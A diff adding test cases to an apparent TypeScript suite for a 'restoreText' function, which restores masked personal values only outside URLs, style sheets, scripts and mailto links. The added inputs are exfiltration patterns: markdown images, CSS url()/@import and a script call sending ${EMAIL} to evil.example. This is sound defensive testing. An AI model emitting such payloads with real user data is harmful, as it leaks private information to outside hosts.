@@ -81,6 +81,20 @@ describe('a restored text', () => {
     ['a value that would be the host', `${NAME}.evil.example`],
     ['a value that would be the user of a URL', `${NAME}@evil.example`],
     ['a value that would be the scheme', `${NAME}://evil.example`],
+    ['angle brackets with a space', `![x](< https://evil.example/?q=a ${EMAIL}>)`],
+    ['angle brackets with a parenthesis', `![x](<https://evil.example/?q=a ) b ${EMAIL}>)`],
+    ['angle brackets behind a space', `![x]( < a ) ${EMAIL}>)`],
+    ['angle brackets of a definition', `[x]: < https://evil.example/?q=a ${EMAIL}>`],
+    ['an address with spaces', `![x](https://evil.example/?q=a b (c) ${EMAIL})`],
+    ['an address over lines', `![x](https://evil.example/?q=a\n${EMAIL})`],
+    ['an address with a space that does not break', `![x](https://evil.example/?q=\u00a0${EMAIL})`],
+    ['an address with an ideographic space', `https://evil.example/?q=\u3000${EMAIL}`],
+    ['an address with a line separator', `https://evil.example/?q=\u2028${EMAIL}`],
+    ['a message', `mailto:a@b.example?body=hello there ${EMAIL}`],
+    ['a style sheet', `<style>a{b:url("https://evil.example/?q=a ${EMAIL}")}</style>`],
+    ['a style sheet in capitals', `<STYLE\nmedia=all>@import "https://evil.example/?q=a ${EMAIL}"`],
+    ['a script', `<script>send("a ${EMAIL}")</script>`],
+    ['an address of CSS in the open', `url( "https://evil.example/?q=a ${EMAIL}" )`],
     ['a run without an end', `${'a'.repeat(3_000)}${EMAIL}`],
   ])('has no value in %s', (_, text) => {
     expect(restoreText(text, reveal, DISPLAY)).toBe(text)
@@ -90,6 +104,20 @@ describe('a restored text', () => {
     expect(restoreText(`https://a.example/ ${NAME} <b class="x">${NAME}</b>`, reveal, DISPLAY)).toBe(
       'https://a.example/ Person A <b class="x">Person A</b>',
     )
+  })
+
+  test.each([
+    `[x](https://a.example/ "t") ${NAME}`,
+    `![x](a (b) c) ${NAME}`,
+    `a[i](b\n\n${NAME}`,
+    `[x]: <a> ${NAME}`,
+    `Tel: ${NAME}, data: ${NAME}, mailto: ${NAME}`,
+    `mailto:a@b.example?body=x y\n${NAME}`,
+    `<style>a{}</style> <p>${NAME}</p> <styles>${NAME}`,
+    `url(a) ${NAME} curly (${NAME})`,
+    `您好\u3000${NAME}`,
+  ])('has values again behind an address: %j', (text) => {
+    expect(restoreText(text, reveal, DISPLAY)).toBe(text.replaceAll(NAME, 'Person A'))
   })
 
   test('takes a value that is a URL into account for the next token', () => {
@@ -140,6 +168,11 @@ test('however a text is cut into chunks, the restored text is the same', () => {
       '.',
       '](',
       '\n',
+      '](<',
+      '<style>',
+      '</style>',
+      'url(',
+      'mailto:a?b ',
     ),
     string({ maxLength: 5 }),
   )
